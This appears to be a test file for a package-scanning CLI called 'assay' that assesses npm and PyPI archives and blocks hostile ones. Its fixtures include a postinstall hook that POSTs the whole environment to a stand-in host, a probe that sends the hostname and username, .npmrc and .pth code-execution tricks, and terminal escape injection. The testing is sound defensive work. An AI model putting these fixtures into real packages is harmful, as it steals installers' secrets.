import { execFileSync } from 'node:child_process'
import { createHash, generateKeyPairSync } from 'node:crypto'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { parseArguments } from '../src/cli/arguments.ts'
import { packageCommand } from '../src/cli/commands/package.ts'
import { terminalOver } from '../src/cli/terminal.ts'
import { fixedClock } from '../src/base/clock.ts'
import { visible } from '../src/base/escape.ts'
import type { PackageAssessment } from '../src/model/package-assessment.ts'
import { assay, EPOCH, type Run } from './support/assay.ts'
import { writeNpm, writeSdist, writeWheel } from './support/package-archives.ts'
import { serveNpm, servePython } from './support/package-server.ts'
import { registryServer } from './support/registry-server.ts'
import { HOSTILE } from './support/sample-result.ts'
import { temporaryFolder } from './support/temporary-folder.ts'

const POSTS = 'require("https").request({ host: "collect.example", method: "POST" }).end(JSON.stringify(process.env))\n'
const HOOK = { scripts: { postinstall: 'node install.js' } }
const evil = (version = '1.0.1'): Buffer => writeNpm('foo', version, { 'index.js': '', 'install.js': POSTS }, HOOK)
const quiet = (version = '1.0.0'): Buffer => writeNpm('foo', version, { 'index.js': 'module.exports = 1\n' })
/** A probe that says who installed it: it holds. */
const probe = (): Buffer =>
  writeNpm('foo', '1.0.0', {
    'install.js': 'const os = require("os")\nrequire("https").get("https://probe.example/?h=" + os.hostname() + "&u=" + os.userInfo().username)\n',
  }, HOOK) // prettier-ignore

const LOCAL = ['--offline', '--no-previous', '--no-cache', '-q']

function look(folder: string, ...words: readonly string[]): Promise<Run> {
  return assay(['package', ...words, ...LOCAL], { cwd: folder })
}

function assessments({ stdout }: Run): readonly PackageAssessment[] {
  const found = JSON.parse(stdout) as PackageAssessment | readonly PackageAssessment[]
  return Array.isArray(found) ? found : [found as PackageAssessment]
}

describe('assay package on files', { timeout: 60_000 }, () => {
  const folder = temporaryFolder({
    'quiet-1.0.0.tgz': quiet(),
    'evil-1.0.1.tgz': evil(),
    'probe-1.0.0.tgz': probe(),
    'broken-1.0.0.tgz': 'no archive',
    'tree/package.json': JSON.stringify({ name: 'tree', version: '3.0.0', ...HOOK }),
    'tree/install.js': POSTS,
    'bar-1.0-py3-none-any.whl': writeWheel('bar', '1.0', { 'bar/__init__.py': 'X = 1\n' }),
    'Bar-1.0.tar.gz': writeSdist('bar', '1.0', { 'setup.py': 'from setuptools import setup\nsetup()\n' }),
    'bar-1.1-py3-none-any.whl': writeWheel('bar', '1.1', { 'bar/__init__.py': 'X = 2\n' }),
  })

  it.each<readonly [string, readonly string[], number, string]>([
    ['an honest package', ['quiet-1.0.0.tgz'], 0, ' allow  foo 1.0.0 (npm)'],
    ['one that steals', ['evil-1.0.1.tgz'], 1, ' block  foo 1.0.1 (npm)'],
    ['one that is held', ['probe-1.0.0.tgz'], 1, ' hold  foo 1.0.0 (npm)'],
    ['one that is held, where only blocks count', ['probe-1.0.0.tgz', '--fail-on', 'block'], 0, ' hold '],
    ['one that steals, where only blocks count', ['evil-1.0.1.tgz', '--fail-on', 'block'], 1, ' block '],
    ['what is no archive', ['broken-1.0.0.tgz'], 1, ' hold  broken-1.0.0.tgz'],
    ['a folder', ['tree'], 1, ' block  tree 3.0.0 (npm)'],
    ['several, of which one steals', ['quiet-1.0.0.tgz', 'evil-1.0.1.tgz'], 1, ' block '],
  ])('%s', async (_, words, code, text) => {
    const run = await look(folder, ...words)
    expect([run.code, run.stdout]).toEqual([code, expect.stringContaining(text)])
  })

  it('tells the steps with their lines, and what is compared', async () => {
    const { stdout } = await look(folder, 'evil-1.0.1.tgz')
    expect(stdout).toMatch(/1\. Secrets leave the machine {2}block, \d+ of 100, high confidence/)
    expect(stdout).toMatch(/→ install\.js:1(?::\d+)? {2}reads the whole environment/)
    expect(stdout).toContain('packages/steals-secrets, in evil-1.0.1.tgz')
    expect(stdout).toContain('not compared: it was not asked for')
  })

  it('takes artefacts of one release together, and of two apart', async () => {
    const files = ['bar-1.0-py3-none-any.whl', 'bar-1.1-py3-none-any.whl', 'Bar-1.0.tar.gz', './Bar-1.0.tar.gz']
    const found = assessments(await look(folder, ...files, '-f', 'json'))
    expect(found.map(({ purl, artefacts }) => [purl, artefacts.map(({ name }) => name)])).toEqual([
      ['pkg:pypi/bar@1.0', ['bar-1.0-py3-none-any.whl', 'Bar-1.0.tar.gz']],
      ['pkg:pypi/bar@1.1', ['bar-1.1-py3-none-any.whl']],
    ])
  })

  it('compares with artefacts on disk', async () => {
    const run = await look(folder, 'evil-1.0.1.tgz', '--previous', 'quiet-1.0.0.tgz', '-f', 'json')
    const [found] = assessments(run)
    expect(found?.compared).toEqual({ version: 'quiet-1.0.0.tgz' })
    expect(found?.changes.map(({ kind, subject }) => [kind, subject])).toEqual(
      expect.arrayContaining([
        ['install-hook', 'postinstall'],
        ['host', 'collect.example'],
      ]),
    )
  })

  it('writes several reports at once', async () => {
    const words = ['-f', 'text', '-f', 'json', '-o', 'p.json', '-f', 'sarif', '-o', 'p.sarif', '-f', 'markdown', '-o', 'p.md']
    const run = await look(folder, 'evil-1.0.1.tgz', ...words)
    expect([run.code, run.stdout]).toEqual([1, expect.stringContaining(' block  foo 1.0.1')])
    const text = (name: string): string => readFileSync(join(folder, name), 'utf8')
    expect(JSON.parse(text('p.json'))).toMatchObject({ schemaVersion: 1, verdict: 'block' })
    const { version, runs } = JSON.parse(text('p.sarif')) as { version: string; runs: readonly { results: readonly object[] }[] } // prettier-ignore
    expect([version, runs[0]?.results[0]]).toEqual(['2.1.0', expect.objectContaining({ ruleId: 'packages/steals-secrets', level: 'error' })]) // prettier-ignore
    expect(text('p.md')).toMatch(/^#+ .*foo 1\.0\.1/m)
  }) // prettier-ignore

  it('says the same with one worker and with four, with and without memory', async () => {
    const words = ['package', 'quiet-1.0.0.tgz', 'evil-1.0.1.tgz', 'tree', '--offline', '--no-previous', '-f', 'json']
    const cache = temporaryFolder()
    const runs = [
      await assay([...words, '--no-cache', '--workers', '1'], { cwd: folder }),
      await assay([...words, '--cache-dir', cache, '--workers', '4'], { cwd: folder }),
      await assay([...words, '--cache-dir', cache], { cwd: folder }),
    ]
    expect(new Set(runs.map(({ stdout }) => stdout)).size).toBe(1)
  })

  it.each<readonly [string, readonly string[], RegExp]>([
    ['nothing', [], /expected a package URL, an archive or a folder/],
    ['a name', ['requests'], /nothing is at requests[^]*`pkg:pypi\/requests`/],
    ['a URL of another ecosystem', ['pkg:cargo/serde@1'], /expected a package URL of PyPI or npm/],
    ['a format that is none', ['quiet-1.0.0.tgz', '-f', 'pdf'], /there is no format pdf/],
    ['two reports for one place', ['quiet-1.0.0.tgz', '-f', 'json', '-f', 'text'], /only one report/],
    ['a threshold that is none', ['quiet-1.0.0.tgz', '--fail-on', 'allow'], /--fail-on hold or block/],
    ['workers that are none', ['quiet-1.0.0.tgz', '--workers', '0'], /--workers from 1 to 64/],
    ['a release before that is not there', ['quiet-1.0.0.tgz', '--previous', 'gone.tgz'], /nothing is at gone\.tgz/],
    ['a release before of two', ['quiet-1.0.0.tgz', 'evil-1.0.1.tgz', '--previous', 'quiet-1.0.0.tgz'], /of one release, found 2 releases/],
    ['a release before of a URL', ['pkg:npm/foo@1', '--previous', 'quiet-1.0.0.tgz'], /found a package URL/],
    ['a key that is none', ['quiet-1.0.0.tgz', '--trust', 'quiet-1.0.0.tgz'], /expected an Ed25519 public key in PEM/],
    ['a list that is none', ['quiet-1.0.0.tgz', '--allowed', 'tree/package.json'], /is not understood/],
    ['an option that is none', ['quiet-1.0.0.tgz', '--deep'], /--deep/],
  ])('%s is a mistake that is told', async (_, words, told) => {
    const { code, stderr, stdout } = await assay(['package', ...words, '--offline'], { cwd: folder, env: { HOME: folder } })
    expect([code, stdout]).toEqual([2, ''])
    expect(stderr).toMatch(told)
    expect(stderr).not.toContain('this is a bug')
  }) // prettier-ignore

  it('a user without a home is told where to keep what is fetched', async () => {
    const { code, stderr } = await assay(['package', 'pkg:npm/foo@1.0.0'])
    expect([code, stderr]).toEqual([2, expect.stringMatching(/this user has no home[^]*--packages-dir/)])
  })

  it('explains itself', async () => {
    const { code, stdout } = await assay(['package', '--help'])
    expect(code).toBe(0)
    for (const word of ['PURL|ARCHIVE|DIR', 'allow', 'approve', '--yara', '--previous', '--fail-on', 'Exit code'])
      expect(stdout).toContain(word)
  })
})

describe("rules of the operator's own", { timeout: 60_000 }, () => {
  const folder = temporaryFolder({
    'quiet-1.0.0.tgz': quiet(),
    'hold.yar': 'rule seen { meta: description = "The mark of last week." strings: $a = "module.exports" condition: $a }',
    'block.yar': 'rule banned { meta: verdict = "block" strings: $a = "module.exports" condition: $a }',
    'tell.yar': 'rule noted { meta: severity = "low" strings: $a = "module.exports" condition: $a }',
    'broken.yar': 'rule broken { condition: }',
  }) // prettier-ignore

  it.each([
    ['hold', 1, ' hold ', 'The rule seen of hold.yar matches index.js: The mark of last week.'],
    ['block', 1, ' block ', 'The rule banned of block.yar matches index.js.'],
    ['tell', 0, ' allow ', 'The rule noted of tell.yar matches index.js.'],
  ])('%s', async (name, code, verdict, text) => {
    const run = await look(folder, 'quiet-1.0.0.tgz', '--yara', `${name}.yar`)
    expect([run.code, run.stdout]).toEqual([code, expect.stringContaining(verdict)])
    expect(run.stdout).toContain(text)
    expect(run.stdout).toMatch(/→ index\.js:1 {2}\$a of/)
  })

  it('with a mistake are told of before anything is looked at', async () => {
    const { code, stderr } = await look(folder, 'quiet-1.0.0.tgz', '--yara', 'broken.yar')
    expect([code, stderr]).toEqual([2, expect.stringContaining('the YARA rules in broken.yar are not understood')])
  })
})

describe('assay package against a registry', { timeout: 60_000 }, () => {
  const opened = registryServer()
  afterAll(async () => (await opened).close())

  async function ask(words: readonly string[], folder = temporaryFolder()): Promise<Run> {
    const { address } = await opened
    const env = { HOME: folder, PIP_INDEX_URL: `${address}simple/`, npm_config_registry: `${address}npm/` }
    return assay(['package', ...words], { cwd: folder, env })
  }

  it('fetches, compares and blocks; the second time offline, from what it kept', async () => {
    const server = await opened
    serveNpm(server, 'foo', [
      { version: '1.0.0', files: { 'foo-1.0.0.tgz': quiet() }, published: '2026-09-01T00:00:00Z' },
      { version: '1.0.1', files: { 'foo-1.0.1.tgz': evil() }, manifest: HOOK },
    ])
    const folder = temporaryFolder()
    const first = await ask(['pkg:npm/foo@1.0.1'], folder)
    expect([first.code, first.stdout]).toEqual([1, expect.stringContaining(' block  foo 1.0.1 (npm)')])
    expect(first.stdout).toContain('New against 1.0.0')
    const asked = server.seen.length
    const again = await ask(['pkg:npm/foo@1.0.1', '--offline'], folder)
    expect([again.stdout, server.seen.length]).toEqual([first.stdout, asked])
    const { stdout } = await assay(['cache', 'info', '-f', 'json'], { env: { HOME: folder } })
    expect(JSON.parse(stdout)).toMatchObject({ packages: { count: 2 }, artefacts: { bytes: expect.any(Number) } })
  })

  it('says what is not there, and what could not be had, and looks at the rest', async () => {
    const server = await opened
    const wheel = writeWheel('bar', '1.0', { 'bar/__init__.py': 'X = 1\n' })
    servePython(server, 'bar', [{ version: '1.0', files: { 'bar-1.0-py3-none-any.whl': wheel } }])
    const sdist = writeSdist('half', '1.0', {})
    const files = { 'half-1.0.tar.gz': sdist, 'half-1.0-py3-none-any.whl': writeWheel('half', '1.0', {}) }
    servePython(server, 'half', [{ version: '1.0', files, gone: ['half-1.0.tar.gz'] }])
    server.replies.set('/simple/broken/', 'neither JSON nor a page')
    const run = await ask(['pkg:pypi/bar@1.0', 'pkg:pypi/bar@2.0', 'pkg:pypi/none', 'pkg:pypi/broken@1', '-f', 'json'])
    expect([run.code, assessments(run).map(({ name }) => name)]).toEqual([3, ['bar']])
    expect(run.stderr).toMatch(/pkg:pypi\/bar@2\.0: the package is there, this version is not/)
    expect(run.stderr).toMatch(/pkg:pypi\/none: no such package at .*anybody tomorrow/)
    expect(run.stderr).toMatch(/pkg:pypi\/broken@1: .*\(FORMAT_\w+\); nothing is known of it/)
    const half = await ask(['pkg:pypi/half@1.0'])
    expect([half.code, half.stdout]).toEqual([3, expect.stringContaining(' hold  half 1.0 (PyPI)')])
    expect((await ask(['pkg:pypi/bar@1.0'])).code).toBe(0)
  })

  it('says nothing while it is quick, and what it does when it takes long', async () => {
    const server = await opened
    serveNpm(server, 'slow', [{ version: '1.0.0', files: { 'slow-1.0.0.tgz': writeNpm('slow', '1.0.0', { 'index.js': '' }) } }])
    const reply = server.replies.get('/npm/slow')
    const body = typeof reply === 'string' ? reply : ''
    const words = ['pkg:npm/slow@1.0.0', '--no-cache']
    const told = async (wait: number, ...more: readonly string[]): Promise<string> => {
      server.replies.set('/npm/slow', (_, response) => void setTimeout(() => response.end(body), wait))
      return (await ask([...words, ...more])).stderr
    }
    expect(await told(2000)).toMatch(/^(?:fetching|looking into) slow-1\.0\.0\.tgz/m)
    expect(await told(2000, '-q')).not.toMatch(/fetching|looking into/)
  }) // prettier-ignore
})

describe('progress at a terminal', { timeout: 60_000 }, () => {
  async function shown(folder: string, words: readonly string[], environment = {}): Promise<readonly string[]> {
    const written: string[] = []
    const stderr = { isTTY: true, columns: 60, write: (text: string) => void written.push(text) }
    await packageCommand.run(parseArguments(packageCommand, [...words, '--no-previous', '--no-cache']), {
      terminal: terminalOver({ write: () => true }, stderr, {}),
      environment: { HOME: folder, ...environment },
      input: async function* () {},
      folder,
      clock: fixedClock(Number(EPOCH) * 1000),
      signal: new AbortController().signal,
      version: '0',
    })
    return written.filter((text) => !text.startsWith('assay:') && !text.startsWith('  Run `assay'))
  }

  it('rewrites one line after the first second, and removes it', async () => {
    const server = await registryServer()
    const name = 'a-name-that-is-longer-than-the-terminal-is-wide'
    const parts = Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`lib/${at}.js`, `exports.x = f(${at})\n`]))
    serveNpm(server, name, [{ version: '1.0.0', files: { [`${name}-1.0.0.tgz`]: writeNpm(name, '1.0.0', parts) } }])
    const reply = server.replies.get(`/npm/${name}`)
    server.replies.set(`/npm/${name}`, (_, response) => void setTimeout(() => response.end(reply), 1500))
    const lines = await shown(temporaryFolder(), [`pkg:npm/${name}@1.0.0`], { npm_config_registry: `${server.address}npm/` })
    await server.close()
    expect(lines[0]?.startsWith('\r\u001b[K')).toBe(true)
    expect(lines[0]).toMatch(/(?:fetching|looking into) a-name-that-is-longer/)
    expect(lines.at(-1)).toBe('\r\u001b[K')
    expect(lines.filter((line) => line.length >= 60 + '\r\u001b[K'.length || line.includes('\n'))).toEqual([])
  }) // prettier-ignore

  it('shows nothing for what is quick', async () => {
    const folder = temporaryFolder({ 'quiet-1.0.0.tgz': quiet() })
    // The first run of a process loads what later ones find.
    await shown(folder, ['quiet-1.0.0.tgz', '--offline'])
    expect(await shown(folder, ['quiet-1.0.0.tgz', '--offline'])).toEqual([])
  })
})

describe('what two people allow', { timeout: 60_000 }, () => {
  const keys = { ann: generateKeyPairSync('ed25519'), bob: generateKeyPairSync('ed25519') }
  const pems = Object.fromEntries(
    Object.entries(keys).flatMap(([name, { privateKey, publicKey }]) => [
      [`${name}.key`, privateKey.export({ type: 'pkcs8', format: 'pem' })],
      [`${name}.pub`, publicKey.export({ type: 'spki', format: 'pem' })],
    ]),
  ) as Readonly<Record<string, string>>

  it('turns a block into an allow, for these bytes and nothing else', async () => {
    const folder = temporaryFolder({ ...pems, 'evil-1.0.1.tgz': evil(), 'evil-1.0.2.tgz': evil('1.0.2') })
    const run = (...words: readonly string[]): Promise<Run> => assay(['package', ...words], { cwd: folder })
    const trust = ['--trust', 'ann.pub', '--trust', 'bob.pub']
    expect((await look(folder, 'evil-1.0.1.tgz', ...trust)).code).toBe(1)
    const why = ['--purl', 'pkg:npm/foo@1.0.1', '--reason', 'Our own test.']
    expect((await run('allow', 'evil-1.0.1.tgz', ...why, '--key', 'ann.key', '--as', 'Ann')).code).toBe(0)
    expect((await look(folder, 'evil-1.0.1.tgz', ...trust)).code).toBe(1)
    expect((await run('approve', 'evil-1.0.1.tgz', '--key', 'bob.key', '--as', 'Bob', '--trust', 'ann.pub')).code).toBe(0)
    const allowed = await look(folder, 'evil-1.0.1.tgz', ...trust)
    expect([allowed.code, allowed.stdout]).toEqual([0, expect.stringContaining('allowed by Ann and Bob until')])
    // What it does is told all the same.
    expect(allowed.stdout).toContain('Secrets leave the machine')
    const untrusted = await look(folder, 'evil-1.0.1.tgz', '--trust', 'ann.pub')
    expect([untrusted.code, untrusted.stdout]).toEqual([1, expect.stringContaining(' block ')])
    expect((await look(folder, 'evil-1.0.2.tgz', ...trust)).code).toBe(1)
    const digest = createHash('sha256').update(evil()).digest('hex')
    expect(readFileSync(join(folder, 'assay-allowed.json'), 'utf8')).toContain(digest)
  }) // prettier-ignore
})

describe('what a package decides the words of', { timeout: 60_000 }, () => {
  it.each(['text', 'json', 'sarif', 'markdown'])('moves no cursor in %s', async (format) => {
    const name = 'x\u001b[2J\u202e'
    const files = { [`lib/${name}.js`]: POSTS, 'install.js': `require("./lib/${name}.js")\n${POSTS}` }
    const hostile = { ...HOOK, description: HOSTILE, version: '1.0.0\u001b]0;x\u0007', dependencies: { [HOSTILE]: HOSTILE } }
    const folder = temporaryFolder({ 'evil.tgz': writeNpm(`foo${name}`, '1.0.0', files, hostile) })
    const { code, stdout, stderr } = await look(folder, 'evil.tgz', '-f', format)
    expect(code).toBe(1)
    const lines = `${stdout}${stderr}`.split('\n')
    expect(lines.filter((line) => visible(line) !== line)).toEqual([])
  }) // prettier-ignore

  it('nothing of it is run, even by Node that looks for settings', async () => {
    const folder = temporaryFolder()
    const mark = join(folder, 'ran')
    const touch = `require("fs").writeFileSync(${JSON.stringify(mark)}, "")\n`
    const manifest = { scripts: { preinstall: `touch ${mark}`, postinstall: `touch ${mark}` }, main: 'index.js' }
    const npm = writeNpm('foo', '1.0.0', { 'index.js': touch, '.npmrc': 'node-options=--require ./index.js', 'binding.gyp': '{}' }, manifest) // prettier-ignore
    writeFileSync(join(folder, 'foo-1.0.0.tgz'), npm)
    const setup = `open(${JSON.stringify(mark)}, "w")\n`
    writeFileSync(join(folder, 'bar-1.0.tar.gz'), writeSdist('bar', '1.0', { 'setup.py': setup, 'bar.pth': `import os; ${setup}` }))
    execFileSync('tar', ['-xzf', 'foo-1.0.0.tgz'], { cwd: folder })
    await look(join(folder, 'package'), '.', '../foo-1.0.0.tgz', '../bar-1.0.tar.gz')
    expect(existsSync(mark)).toBe(false)
  }) // prettier-ignore
})
